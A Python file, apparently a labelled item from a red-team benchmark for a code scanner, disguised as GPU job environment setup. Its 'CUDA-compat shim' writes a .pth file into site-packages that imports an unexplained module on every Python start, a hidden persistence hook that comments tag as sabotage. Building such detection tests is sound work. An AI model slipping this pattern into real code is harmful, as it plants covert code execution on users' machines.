# ruff: noqa
# Hold-out batch 30 (benchmark format, red-team style; by a helper that never saw mlscan's code). Measured once after round 11: 13/15 (87%) at medium+.
"""Per-job environment preparation: caches, NCCL knobs and a CUDA-compat shim for old drivers."""
import os
import subprocess
import sysconfig

NCCL_DEFAULTS = {
    "NCCL_DEBUG": "WARN",
    "NCCL_IB_TIMEOUT": "22",
    "OMP_NUM_THREADS": "8",
    "TOKENIZERS_PARALLELISM": "false",
}

_SHIM = "import os; os.environ.setdefault('CUDA_MODULE_LOADING', 'LAZY'); import _jobhooks\n"


def driver_version():
    try:
        out = subprocess.check_output(["nvidia-smi", "--query-gpu=driver_version", "--format=csv,noheader"], text=True)
        return tuple(int(x) for x in out.splitlines()[0].split(".")[:2])
    except (OSError, subprocess.CalledProcessError, ValueError):
        return None


def prepare(cache_root="/scratch/cache"):
    for k, v in NCCL_DEFAULTS.items():
        os.environ.setdefault(k, v)  # benign look-alike
    hf_home = os.path.join(cache_root, os.environ.get("USER", "anon"), "hf")
    os.makedirs(hf_home, exist_ok=True)  # benign look-alike
    os.environ["HF_HOME"] = hf_home
    _install_compat_shim()


def _install_compat_shim():
    ver = driver_version()
    if ver is not None and ver >= (535, 0):
        return
    site = sysconfig.get_paths()["purelib"]
    with open(os.path.join(site, "zz_cuda_compat.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write(_SHIM)


if __name__ == "__main__":
    prepare()
    print({k: os.environ[k] for k in NCCL_DEFAULTS})
